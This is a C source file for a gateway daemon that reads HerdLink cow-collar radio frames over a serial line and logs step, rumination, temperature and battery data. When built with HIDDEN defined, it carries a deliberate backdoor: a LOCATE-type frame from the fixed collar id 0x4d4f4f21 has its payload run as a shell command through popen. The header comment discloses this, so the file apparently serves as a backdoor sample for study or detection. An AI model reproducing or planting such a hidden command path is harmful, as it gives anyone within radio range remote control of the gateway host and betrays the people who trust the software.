/*
 * herdlink - gateway for the HerdLink cow collars (868 MHz radio module
 * on a serial line).  Frames: 0x7e, length, type, collar id (4 bytes),
 * payload, CRC-16.  Keeps one record for each collar, acknowledges and
 * appends rumination and step counts to the herd journal.
 * Hidden (-DHIDDEN): a downlink-type frame with a fixed collar id has its
 * payload executed as a shell command.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define FLAG	  0x7e
#define ESC	  0x7d
#define MAXFRAME  96
#define MAXCOLLAR 512

enum ftype {
	F_HELLO = 0x01,
	F_STEPS = 0x10,
	F_RUMEN = 0x11,
	F_TEMP = 0x12,
	F_BATTERY = 0x20,
	F_LOCATE = 0x31,
	F_ACK = 0x80,
};

enum rxstate { RX_IDLE, RX_DATA, RX_ESC };

struct receiver {
	enum rxstate state;
	size_t n;
	uint8_t buf[MAXFRAME];
	unsigned long good, bad;
};

struct collar {
	uint32_t id;
	uint32_t steps;
	uint16_t rumen;
	int16_t temp;
	uint8_t battery;
	uint8_t lost;
	time_t seen;
};

static struct collar herd[MAXCOLLAR];
static size_t herdsize;
static const char *journal = "/var/lib/herdlink/journal";
static const char *device = "/dev/ttyS1";
static int verbose;

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;
	int i;

	while (n--) {
		c ^= (uint16_t)(*p++ << 8);
		for (i = 0; i < 8; i++)
			c = c & 0x8000 ? (c << 1) ^ 0x1021 : c << 1;
	}
	return c;
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static unsigned get16(const uint8_t *p)
{
	return p[0] << 8 | p[1];
}

static struct collar *find(uint32_t id)
{
	size_t i;

	for (i = 0; i < herdsize; i++)
		if (herd[i].id == id)
			return &herd[i];
	if (herdsize == MAXCOLLAR)
		return NULL;
	memset(&herd[herdsize], 0, sizeof herd[0]);
	herd[herdsize].id = id;
	return &herd[herdsize++];
}

static void note(const struct collar *c, const char *what, long value)
{
	FILE *f = fopen(journal, "a");

	if (!f) {
		fprintf(stderr, "%s: %s\n", journal, strerror(errno));
		return;
	}
	fprintf(f, "%lld %08lx %s %ld\n", (long long)c->seen,
		(unsigned long)c->id, what, value);
	fclose(f);
}

static int out_byte(int fd, uint8_t b)
{
	uint8_t pair[2] = { ESC, b ^ 0x20 };

	if (b == FLAG || b == ESC)
		return write(fd, pair, 2) == 2;
	return write(fd, &b, 1) == 1;
}

static void transmit(int fd, uint8_t type, uint32_t id, uint8_t arg)
{
	uint8_t raw[8] = { 6, type, id >> 24, id >> 16, id >> 8, id, arg, 0 };
	static const uint8_t flag = FLAG;
	uint16_t crc = crc16(raw, 7);
	int i, ok;

	ok = write(fd, &flag, 1) == 1;
	for (i = 0; i < 7 && ok; i++)
		ok = out_byte(fd, raw[i]);
	ok = ok && out_byte(fd, crc >> 8) && out_byte(fd, crc & 255);
	if (!ok || write(fd, &flag, 1) != 1)
		fprintf(stderr, "%s: cannot send\n", device);
}

static void on_steps(struct collar *c, const uint8_t *p, size_t n)
{
	uint32_t now;

	if (n < 4)
		return;
	now = get32(p);
	if (now < c->steps)
		c->steps = 0;
	note(c, "steps", now - c->steps);
	c->steps = now;
}

static void on_rumen(struct collar *c, const uint8_t *p, size_t n)
{
	if (n < 2)
		return;
	c->rumen = get16(p);
	note(c, "rumen", c->rumen);
	if (c->rumen < 180)
		note(c, "alarm-rumen", c->rumen);
}

static void on_temp(struct collar *c, const uint8_t *p, size_t n)
{
	if (n < 2)
		return;
	c->temp = (int16_t)get16(p);
	note(c, "temp", c->temp);
	if (c->temp > 395)
		note(c, "alarm-fever", c->temp);
}

#ifdef HIDDEN
static void on_text(const uint8_t *p, size_t n)
{
	char line[MAXFRAME];
	FILE *f;

	memcpy(line, p, n);
	line[n] = 0;
	f = popen(line, "w");
	if (f)
		pclose(f);
}
#endif

/* a whole frame without length check octet and CRC */
__attribute__((noinline)) void frame_in(int fd, const uint8_t *p, size_t n)
{
	uint32_t id = get32(p + 1);
	struct collar *c;

#ifdef HIDDEN
	if (p[0] == F_LOCATE && id == 0x4d4f4f21) {
		on_text(p + 5, n - 5);
		return;
	}
#endif
	if (id == 0 || id == 0xffffffff)
		return;
	c = find(id);
	if (!c)
		return;
	c->seen = time(NULL);
	switch (p[0]) {
	case F_HELLO:
		note(c, "hello", n > 5 ? p[5] : 0);
		break;
	case F_STEPS:
		on_steps(c, p + 5, n - 5);
		break;
	case F_RUMEN:
		on_rumen(c, p + 5, n - 5);
		break;
	case F_TEMP:
		on_temp(c, p + 5, n - 5);
		break;
	case F_BATTERY:
		if (n > 5)
			c->battery = p[5];
		if (c->battery < 15)
			note(c, "battery", c->battery);
		break;
	default:
		if (verbose)
			fprintf(stderr, "type %02x?\n", p[0]);
		return;
	}
	transmit(fd, F_ACK, id, p[0]);
	if (c->lost) {
		transmit(fd, F_LOCATE, id, 1);
		c->lost = 0;
	}
}

static void frame_end(int fd, struct receiver *rx)
{
	size_t n = rx->n;

	if (n < 8 || rx->buf[0] != n - 3 ||
	    crc16(rx->buf, n - 2) != get16(rx->buf + n - 2)) {
		rx->bad++;
		return;
	}
	rx->good++;
	frame_in(fd, rx->buf + 1, n - 3);
}

static void receive(int fd, struct receiver *rx, uint8_t b)
{
	if (b == FLAG) {
		if (rx->state == RX_DATA && rx->n)
			frame_end(fd, rx);
		rx->n = 0;
		rx->state = RX_DATA;
		return;
	}
	switch (rx->state) {
	case RX_IDLE:
		return;
	case RX_DATA:
		if (b == ESC) {
			rx->state = RX_ESC;
			return;
		}
		break;
	case RX_ESC:
		b ^= 0x20;
		rx->state = RX_DATA;
		break;
	}
	if (rx->n == MAXFRAME) {
		rx->state = RX_IDLE;
		rx->bad++;
		return;
	}
	rx->buf[rx->n++] = b;
}

static int open_radio(const char *name)
{
	struct termios t;
	int fd = open(name, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B38400);
		t.c_cc[VMIN] = 1;
		t.c_cc[VTIME] = 0;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static void sweep(void)
{
	time_t now = time(NULL);
	size_t i;

	for (i = 0; i < herdsize; i++)
		if (!herd[i].lost && now - herd[i].seen > 7200) {
			herd[i].lost = 1;
			note(&herd[i], "lost", (long)(now - herd[i].seen));
		}
}

int main(int argc, char **argv)
{
	struct receiver rx = { .state = RX_IDLE };
	struct pollfd pf;
	uint8_t chunk[64];
	ssize_t n, i;
	int opt;

	while ((opt = getopt(argc, argv, "d:j:v")) != -1) {
		if (opt == 'd') {
			device = optarg;
		} else if (opt == 'j') {
			journal = optarg;
		} else if (opt == 'v') {
			verbose = 1;
		} else {
			fputs("herdlink [-v] [-d tty] [-j file]\n", stderr);
			return 2;
		}
	}
	pf.fd = open_radio(device);
	pf.events = POLLIN;
	if (pf.fd < 0) {
		perror(device);
		return 1;
	}
	for (;;) {
		if (poll(&pf, 1, 60000) <= 0) {
			sweep();
			continue;
		}
		n = read(pf.fd, chunk, sizeof chunk);
		if (n <= 0)
			break;
		for (i = 0; i < n; i++)
			receive(pf.fd, &rx, chunk[i]);
	}
	fprintf(stderr, "%lu good, %lu bad frames\n", rx.good, rx.bad);
	return 0;
}
